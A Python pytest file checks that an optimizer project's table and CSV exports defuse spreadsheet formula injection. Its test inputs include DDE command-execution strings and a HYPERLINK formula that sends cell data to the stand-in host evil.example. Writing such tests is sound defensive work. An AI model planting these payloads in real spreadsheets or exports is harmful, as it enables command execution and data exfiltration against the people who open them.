"""No table that leaves the workbench has a formula in it that a stranger named."""

import ast
import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from optimizer.cells import plain_cell, plain_frame
from optimizer.export import results_csv
from optimizer.recipe import Recipe
from optimizer.store.records import Variant

ROOT = Path(__file__).parents[1]
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"results")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "\x00=1+1",
    "-A1",
    "+(1)",
)
STARTS = tuple("=+-@\t\r\n")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text):
    assert plain_cell(text).startswith("'")
    frame = plain_frame(pd.DataFrame({text: [text, "dense"], "n": [1, 2]}, index=[text, "b"]))
    assert frame.columns[0].startswith("'")
    assert frame.iloc[0, 0].startswith("'")
    assert frame.index[0].startswith("'")
    assert frame.iloc[1, 0] == "dense"


@pytest.mark.parametrize(
    "text", ["-1.2 points", "+0.4 %", "-3", "+1,024 kB", "- 5 ms", "−3 %", "–"]
)
def test_signed_quantities_stay_readable(text):
    assert plain_frame(pd.DataFrame({"a": [text]})).iloc[0, 0] == text


def test_what_is_no_text_stays_as_it_is():
    frame = pd.DataFrame(
        {
            "n": [-1.5, np.nan],
            "ok": [True, False],
            "none": [None, "x"],
            "when": pd.to_datetime(["2024-01-01", "2024-01-02"]),
            "list": [[1, -2], []],
        }
    )
    pd.testing.assert_frame_equal(plain_frame(frame), frame)


@given(st.text(max_size=20))
def test_no_cell_begins_like_a_formula(text):
    cell = plain_cell(text)
    assert not cell.lstrip(" ").startswith(STARTS)
    assert cell.removeprefix("'") == text.replace("\x00", "") or cell == text.replace("\x00", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_results_csv_has_no_formula(text):
    variant = Variant(
        id="v",
        study_id="s",
        name=text,
        recipe=Recipe(),
        is_baseline=False,
        state="failed",
        created_at="2024-01-01T00:00:00Z",
        error=text,
        stages={},
        results={"promises": [{"promise": text, "kept": False}], "cached": [text]},
    )
    rows = list(csv.reader(io.StringIO(results_csv([variant]))))
    for cell in rows[1]:
        assert not cell.lstrip(" ").startswith(STARTS), cell


def test_every_table_of_a_page_goes_through_the_same_door():
    """Lessons have tables of their own numbers only."""
    direct = []
    for path in sorted((ROOT / "pages").rglob("*.py")):
        if "lessons" in path.parts or path == ROOT / "pages" / "parts" / "table.py":
            continue
        direct += [
            f"{path.relative_to(ROOT)}:{node.lineno}"
            for node in ast.walk(ast.parse(path.read_text()))
            if isinstance(node, ast.Attribute) and node.attr == "dataframe"
        ]
    assert direct == []
